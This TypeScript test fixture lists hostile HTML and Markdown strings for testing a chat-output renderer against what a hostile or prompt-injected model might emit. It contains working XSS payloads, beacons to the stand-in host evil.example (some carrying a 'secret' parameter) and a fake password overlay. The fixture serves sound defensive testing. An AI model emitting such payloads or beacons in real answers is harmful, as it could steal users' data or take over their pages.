// What a hostile model (or a prompt injected into it, or an entity named by someone else) may
// send to be rendered: scripts, event handlers, javascript: and data: links, SVG and MathML
// tricks, mutation-XSS shapes, image and CSS beacons, fixed-position overlays. Each tries to set
// window.__pwned, to make the browser fetch from evil.example, or to draw outside its message.

import { urlAttributeCorpus } from './url-attributes';

export const HOSTILE: readonly string[] = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 1">',
  '[click me](javascript:window.__pwned=1)',
  '[click me](JaVaScRiPt:window.__pwned=1)',
  '[click me](java\tscript:window.__pwned=1)',
  '[click me](&#106;avascript:window.__pwned=1)',
  '<javascript:window.__pwned=1>',
  '[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)',
  '<a href="data:text/html,<script>parent.__pwned=1</script>">data link</a>',
  '<svg onload="window.__pwned = 1"><circle r="10"/></svg>',
  '<svg><script>window.__pwned = 1</script></svg>',
  '<svg><a xlink:href="javascript:window.__pwned=1"><text y="20">svg link</text></a></svg>',
  '<svg><image href="https://evil.example/svg.png"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = 1">',
  '<math href="javascript:window.__pwned=1">math link</math>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.__pwned = 1">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__pwned=1>">',
  '<template><img src=x onerror="window.__pwned = 1"></template>',
  '<details open ontoggle="window.__pwned = 1"><summary>more</summary>x</details>',
  '<iframe src="https://evil.example/frame" onload="window.__pwned = 1"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
  '![beacon](https://evil.example/beacon.png?secret=123)',
  '<img src="https://evil.example/img.png"><img srcset="https://evil.example/srcset.png 1x">',
  '<picture><source srcset="https://evil.example/picture.png"><img src="x"></picture>',
  '<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<link rel="stylesheet" href="https://evil.example/style.css"><link rel="prefetch" href="https://evil.example/prefetch">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '<base href="https://evil.example/">[relative](relative/path)',
  '<div style="background:url(https://evil.example/css.png)">styled</div>',
  '<style>@import url(https://evil.example/import.css); body{background:url(https://evil.example/bg.png)}</style>',
  '<div style="position:fixed;inset:0;z-index:2147483647;background:red">Enter your password</div>',
  '<div class="overlay" id="overlay">classed overlay</div>',
  '<dialog open style="position:fixed;top:0">dialog</dialog>',
  '<a href="https://evil.example/ping" ping="https://evil.example/pinged">a ping link</a>',
  '<input autofocus onfocus="window.__pwned = 1"><button formaction="javascript:window.__pwned=1">b</button>',
  '<marquee onstart="window.__pwned = 1">marquee</marquee>',
  '<a href="https://ok.example/" target="_self" onclick="window.__pwned = 1">a normal link</a>',
  '```html\n<script>window.__pwned = 1</script>\n```',
  '| a | <img src=x onerror="window.__pwned=1"> |\n| - | - |\n| <script>window.__pwned=1</script> | 2 |',
  // The zero-click beacons an attribute list misses: each table part's background.
  '<table background="https://evil.example/table?d=secret"><tr><td background="https://evil.example/td">cell</td></tr></table>',
  // Every URL-bearing attribute of HTML, SVG and MathML, and CSS that loads.
  ...urlAttributeCorpus(),
];

/** Every item at once, as one long answer. */
export const HOSTILE_ALL = HOSTILE.join('\n\n');
